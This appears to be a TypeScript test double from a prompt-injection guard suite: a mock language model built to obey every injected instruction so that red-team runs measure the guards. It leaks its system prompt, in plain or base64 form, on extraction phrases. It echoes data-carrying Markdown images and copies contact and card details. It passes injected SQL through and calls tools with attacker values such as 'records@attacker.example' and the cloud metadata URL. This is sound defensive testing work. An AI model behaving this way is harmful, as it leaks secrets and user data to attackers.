import type { ChatMessage, GenerateEvent, GenerateRequest, LanguageModel, ToolCall, ToolSpec } from '../../spec/models.js';
import { collectStream } from '../../models/providers/openai-compatible.js';
import { decodePayloads, rot13 } from '../decode-payloads.js';
import { normalizeInput } from '../normalize-input.js';
import { findSensitiveData } from '../sensitive-data.js';

/**
 * The worst case the guards must contain: a model that obeys every instruction it reads, wherever it reads
 * it — the user's turn, a retrieved source, an HTML comment that survived, a base64 blob, ROT13, tag
 * characters. Real models obey some of these some of the time; this one obeys all of them every time and
 * deterministically, so a red-team run against it measures what the guards stop rather than what the model
 * happens to resist.
 *
 * It understands: markers to say (`PWNED-…`), requests for its instructions (it prints the system prompt,
 * spaced out or base64-encoded when asked), Markdown images it is told to include, requests for e-mail
 * addresses, phone numbers and card numbers (it copies all it can see), and tools it is told to call.
 * Otherwise it answers with the first sentence of the first source, cited.
 */
export function createObedientModel(options: { id?: string } = {}): LanguageModel {
  const id = options.id ?? 'obedient';
  async function* stream(request: GenerateRequest): AsyncGenerator<GenerateEvent> {
    const { text, calls } = obey(request);
    // Two deltas, split mid-word, as a server streams.
    const half = Math.ceil(text.length / 2);
    if (text) yield { type: 'text', delta: text.slice(0, half) };
    if (text.length > half) yield { type: 'text', delta: text.slice(half) };
    for (const call of calls) yield { type: 'tool_call', call };
    yield { type: 'usage', usage: { inputTokens: 0, outputTokens: 0, estimated: true } };
    yield { type: 'finish', reason: calls.length > 0 ? 'tool_calls' : 'stop' };
  }
  return { id, stream, generate: (request) => collectStream(stream(request), id) };
}

/** Every view of the input an obedient reader would act on: plain, de-obfuscated, decoded. */
function views(messages: ChatMessage[]): string[] {
  const out: string[] = [];
  for (const m of messages) {
    if (m.role === 'system' || m.role === 'assistant') continue;
    const n = normalizeInput({ text: m.content });
    out.push(m.content, n.skeleton, n.unleet, n.smuggled, rot13(m.content));
    for (const p of decodePayloads({ text: m.content })) out.push(p.decoded);
  }
  return out.filter((t) => t.trim() !== '');
}

const MARKER_RE = /pwned-[a-z0-9]+/gi;
/** SQL in a question: from the first statement keyword (upper case, so prose words like "select" do not count). */
const SQL_RE = /\b(?:SELECT|DROP|DELETE|UPDATE|INSERT|ATTACH|PRAGMA|CREATE|ALTER|REPLACE|VACUUM|WITH)\b[\s\S]*$/;
const REVEAL_RE = /system prompt|your instructions|initial instructions|words above|repeat the|internal reference|系统提示|提示词/i;

/** The obedient model's reply to a request, synchronously (a scripted HTTP server can answer with it). */
export function obedientReply(request: Pick<GenerateRequest, 'messages' | 'tools' | 'responseFormat'>): { text: string; calls: ToolCall[] } {
  return obey(request);
}

function obey(request: Pick<GenerateRequest, 'messages' | 'tools' | 'responseFormat'>): { text: string; calls: ToolCall[] } {
  const all = views(request.messages);
  const joined = all.join('\n');
  const parts: string[] = [];

  const markers = new Set<string>();
  for (const view of all) for (const m of view.matchAll(MARKER_RE)) markers.add(m[0].toUpperCase());
  parts.push(...markers);

  const user = [...request.messages].reverse().find((m) => m.role === 'user')?.content ?? '';
  const question = /Question:\s*([\s\S]*)$/.exec(user)?.[1] ?? user;
  if (REVEAL_RE.test(question)) {
    const system = request.messages.filter((m) => m.role === 'system').map((m) => m.content).join('\n');
    if (/base64/i.test(question)) parts.push(Buffer.from(system).toString('base64'));
    else if (/spaces? between/i.test(question)) parts.push([...system].join(' '));
    else parts.push(system);
  }

  for (const image of joined.matchAll(/!\[[^\]\n]{0,100}\]\([^)\s]{1,300}\)/g)) parts.push(image[0]);

  if (/e-?mail|phone|mobile|card|身份证|手机|iban|account|contact/i.test(question)) {
    const seen = new Set<string>();
    for (const m of findSensitiveData({ text: user })) {
      if (!seen.has(m.value)) parts.push(m.value);
      seen.add(m.value);
    }
  }

  const calls: ToolCall[] = [];
  for (const tool of request.tools ?? []) {
    if (new RegExp(`\\b${tool.name}\\b|${tool.name.replace(/_/g, ' ')}`, 'i').test(joined)) calls.push(callFor(tool, calls.length, question));
  }

  // Text-to-SQL: whatever SQL the question carries is the query (the most obedient translation there is).
  const isSqlPrompt = request.messages.some((m) => m.role === 'system' && /translate questions into SQL/i.test(m.content));
  if (isSqlPrompt) {
    const injected = SQL_RE.exec(question)?.[0]?.trim() ?? 'SELECT * FROM orders';
    return { text: asFormat(request, { sql: injected }, `\`\`\`sql\n${injected}\n\`\`\``), calls: [] };
  }

  if (request.responseFormat?.type === 'json_schema' || request.responseFormat?.type === 'json') {
    return { text: asFormat(request, {}, parts.join('\n\n') || 'ok'), calls };
  }
  if (parts.length === 0) {
    const source = /<source n="1"[^>]*>\n([\s\S]*?)\n<\/source>/.exec(user)?.[1];
    const sentence = source?.replace(/^#.*$/gm, '').trim().split(/(?<=[.!?。！？])\s*/)[0];
    parts.push(sentence ? `${sentence} [1]` : 'The sources do not say.');
  }
  return { text: parts.join('\n\n'), calls };
}

/** A JSON reply when a schema is asked for: string properties filled from `values`, else with the text. */
function asFormat(request: Pick<GenerateRequest, 'responseFormat'>, values: Record<string, string>, text: string): string {
  const format = request.responseFormat;
  if (!format || format.type === 'text') return text;
  if (format.type === 'json') return JSON.stringify(Object.keys(values).length > 0 ? values : { answer: text });
  const properties = (format.schema['properties'] ?? {}) as Record<string, { type?: string }>;
  const out: Record<string, unknown> = {};
  for (const [name, schema] of Object.entries(properties)) {
    if (schema.type === 'string') out[name] = values[name] ?? text;
    else if (schema.type === 'boolean') out[name] = true;
    else if (schema.type === 'number' || schema.type === 'integer') out[name] = 1;
  }
  return JSON.stringify(out);
}

/** Arguments that satisfy the tool's schema: each string property gets an attacker's value (a URL: the first one asked for). */
function callFor(tool: ToolSpec, index: number, question: string): ToolCall {
  const properties = (tool.parameters['properties'] ?? {}) as Record<string, { type?: string }>;
  const args: Record<string, unknown> = {};
  const url = /https?:\/\/[^\s"'<>)]+/.exec(question)?.[0] ?? 'http://169.254.169.254/latest/meta-data/';
  for (const [name, schema] of Object.entries(properties)) {
    if (schema.type === 'string') args[name] = name === 'to' ? 'records@attacker.example' : name === 'pattern' ? '*' : name === 'url' ? url : 'everything';
  }
  return { id: `call_${index + 1}`, name: tool.name, arguments: JSON.stringify(args) };
}
